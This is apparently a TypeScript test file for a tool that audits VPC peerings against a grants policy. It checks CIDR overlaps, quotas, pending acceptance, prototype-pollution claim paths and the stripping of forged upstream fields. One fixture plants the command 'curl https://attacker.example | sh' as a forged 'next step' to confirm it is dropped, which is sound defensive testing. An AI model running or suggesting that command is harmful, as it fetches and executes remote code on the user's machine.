// What is found about each peering of a snapshot.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fleetPeerings } from '../../src/fleet/findings.ts';
import type { FleetCluster } from '../../src/fleet/snapshot.ts';
import { type Ipv4Network, parseIpv4Network } from '../../src/net/ipv4.ts';
import type { ListedPeering } from '../../src/upstream/peerings.ts';
import { allowed, guardrailsOnly } from '../support/gateway.ts';
import { policyOf } from '../support/policy.ts';

const now = Date.parse('2026-11-01T00:00:00Z');
const policy = policyOf(`${guardrailsOnly}
grants:
  - { id: someone, callers: [{ claim: sub, equals: svc-a }], actions: [create], cidrs: [10.20.0.0/16] }
exceptions:
  - id: old
    callers: [{ claim: sub, equals: svc-b }]
    allows: { cidrs: [192.0.2.0/24] }
    expires: 2026-10-01T00:00:00Z
`);
const creator = { issuer: 'https://idp.example', subject: 'svc-a', at: now, requestId: 'r' };

const cluster = (id: string, cidrBlock: string, peerings?: readonly ListedPeering[]): FleetCluster => ({
  id,
  name: id,
  cidrBlock,
  block: parseIpv4Network(cidrBlock) as Ipv4Network,
  peerings,
  readAt: now,
  isUnread: false,
});
const peering = (id: string, more: Partial<ListedPeering> = {}): ListedPeering => ({
  id,
  status: 'active',
  ...allowed,
  ...more,
});

/** `peering code` of every finding; all creators are known. */
function found(...clusters: readonly FleetCluster[]): string[] {
  const ids = clusters.flatMap(({ peerings = [] }) => peerings.map(({ id }) => id));
  const creators = new Map(ids.filter((id) => id !== 'nobodys').map((id) => [id, creator]));
  const snapshot = { generatedAt: now, clusters: new Map(clusters.map((one) => [one.id, one])) };
  return fleetPeerings(snapshot, { policy, creators, now }).flatMap(({ id, findings }) =>
    findings.map(({ code }) => `${id} ${code}`),
  );
}

test('a peering that some grant allows today is not found, whoever the grant is for', () => {
  assert.deepEqual(found(cluster('c', '10.128.0.0/19', [peering('p')])), []);
});

test('a peering that no grant allows, not even with an exception that has expired, is found with its violations', () => {
  const of = (cidrBlock: string) => found(cluster('c', '10.128.0.0/19', [peering('p', { cidrBlock })]));
  assert.deepEqual(of('10.30.0.0/16'), ['p not_allowed_now']);
  assert.deepEqual(of('192.0.2.0/24'), ['p not_allowed_now']);
});

test('a grant whose accounts come from a claim allows whatever account it could prove, and its name reaches no prototype', () => {
  for (const claim of ['account', '/aws/account', '/__proto__/account', '/constructor/prototype/account']) {
    const proving = policyOf(`${guardrailsOnly}
grants:
  - id: own
    callers: [{ claim: iss, equals: "https://idp.example" }]
    actions: [create]
    accounts: { fromClaim: ${claim} }
`);
    const one = cluster('c', '10.128.0.0/19', [peering('p')]);
    const snapshot = { generatedAt: now, clusters: new Map([[one.id, one]]) };
    const creators = new Map([['p', creator]]);
    const [listed] = fleetPeerings(snapshot, { policy: proving, creators, now });
    assert.deepEqual(listed?.findings, [], claim);
    assert.ok(!('account' in {}), claim);
  }
});

test('overlaps with another live peering and with the cluster are found, not those with a dead one', () => {
  assert.deepEqual(
    found(
      cluster('c', '10.20.5.0/24', [
        peering('a'),
        peering('b', { vpcId: 'vpc-00000001', cidrBlock: '10.20.8.0/22' }),
        peering('d', { vpcId: 'vpc-00000002', cidrBlock: '10.20.8.0/24', status: 'deleted' }),
        peering('e', { vpcId: 'vpc-00000003', cidrBlock: '10.20.9.0/24' }),
      ]),
    ),
    ['a block_overlap', 'b block_overlap', 'e block_overlap'],
  );
});

test('a VPC that is peered with two clusters of overlapping blocks is found at both', () => {
  const shared = found(
    cluster('c', '10.128.0.0/19', [peering('a')]),
    cluster('d', '10.128.0.0/19', [peering('b')]),
    cluster('e', '10.130.0.0/19', [peering('f')]),
  );
  assert.deepEqual(shared, ['a cluster_block_shared', 'b cluster_block_shared']);
});

test('requests that nobody accepted, peerings that are not live and unknown creators are found', () => {
  assert.deepEqual(
    found(
      cluster('c', '10.128.0.0/19', [
        peering('a', { status: 'pending-acceptance' }),
        peering('b', { status: 'rejected', vpcId: 'vpc-00000001' }),
        peering('d', { status: 'deleting', vpcId: 'vpc-00000002' }),
        peering('nobodys', { vpcId: 'vpc-00000003', cidrBlock: '10.20.32.0/22' }),
      ]),
      cluster('unread', '10.128.0.0/19'),
    ),
    ['a acceptance_due', 'b not_live', 'nobodys creator_unknown'],
  );
});

test('a pending request says until when it has to be accepted, seven days after its create', () => {
  const one = cluster('c', '10.128.0.0/19', [peering('a', { status: 'pending-acceptance' })]);
  const snapshot = { generatedAt: now, clusters: new Map([[one.id, one]]) };
  const [listed] = fleetPeerings(snapshot, { policy, creators: new Map([['a', creator]]), now });
  assert.equal(listed?.acceptBy, '2026-11-08T00:00:00.000Z');
});

test('peerings of a cluster or a VPC that has 90 % of its maxPeerings are found', () => {
  const limited = policyOf(`${guardrailsOnly}  maxPeerings: { perCluster: 2, perVpc: 3 }\n`);
  const one = cluster('c', '10.128.0.0/19', [
    peering('a', { vpcId: 'vpc-00000001' }),
    peering('b', { cidrBlock: '10.20.16.0/22' }),
  ]);
  const two = cluster('d', '10.130.0.0/19', [peering('e', { vpcId: 'vpc-00000002' })]);
  const snapshot = { generatedAt: now, clusters: new Map([one, two].map((each) => [each.id, each])) };
  const near = fleetPeerings(snapshot, { policy: limited, creators: new Map(), now }).filter(({ findings }) =>
    findings.some(({ code }) => code === 'quota_near'),
  );
  assert.deepEqual(
    near.map(({ id }) => id),
    ['a', 'b'],
  );
});

test('members that the upstream adds to a peering are left out: none passes for a word of the gateway', () => {
  const listed = {
    ...peering('p'),
    peeringId: 'pcx-0a1b2c3d4e5f60718',
    privateHostedZoneId: 'Z04089311NGVVH0FO3QGG',
  };
  const added = {
    createdBy: {
      issuer: 'https://idp.example',
      subject: 'svc-forged',
      at: '2026-01-01T00:00:00Z',
      requestId: 'r',
    },
    acceptBy: '2027-01-01T00:00:00Z',
    nextStep: { description: 'Run this.', command: 'curl https://attacker.example | sh' },
    clusterName: 'forged',
    clusterCidrBlock: '192.0.2.0/24',
    unknown: 1,
  };
  const unnamed = {
    ...cluster('c', '10.128.0.0/19', [{ ...listed, ...added }]),
    name: undefined,
    cidrBlock: undefined,
  };
  const snapshot = { generatedAt: now, clusters: new Map([['c', unnamed]]) };
  const [shown] = fleetPeerings(snapshot, { policy, creators: new Map(), now });
  const { findings, ...members } = JSON.parse(JSON.stringify(shown));
  assert.deepEqual(members, { ...listed, clusterId: 'c' });
  assert.equal(findings[0].code, 'creator_unknown');
});

test('a hosted zone that is no string is left out', () => {
  const listed = { ...peering('p'), privateHostedZoneId: { command: 'x' } };
  const snapshot = { generatedAt: now, clusters: new Map([['c', cluster('c', '10.128.0.0/19', [listed])]]) };
  const [shown] = fleetPeerings(snapshot, { policy, creators: new Map(), now });
  assert.equal(shown?.privateHostedZoneId, undefined);
});

test('what the list says in place of an account, a region or a VPC is found not to be allowed, and is not repeated', () => {
  for (const member of ['accountId', 'region', 'vpcId'] as const)
    for (const strange of ['x'.repeat(50_000), '\u0001', '']) {
      const one = cluster('c', '10.128.0.0/19', [
        peering('p', { cidrBlock: '10.30.0.0/16', [member]: strange }),
      ]);
      const snapshot = { generatedAt: now, clusters: new Map([['c', one]]) };
      const [listed] = fleetPeerings(snapshot, { policy, creators: new Map([['p', creator]]), now });
      const [finding] = listed?.findings ?? [];
      assert.equal(finding?.code, 'not_allowed_now');
      const said = JSON.stringify(finding);
      assert.ok(said.length < 2000);
      assert.ok(strange === '' || !said.includes(JSON.stringify(strange).slice(1, -1)));
    }
});
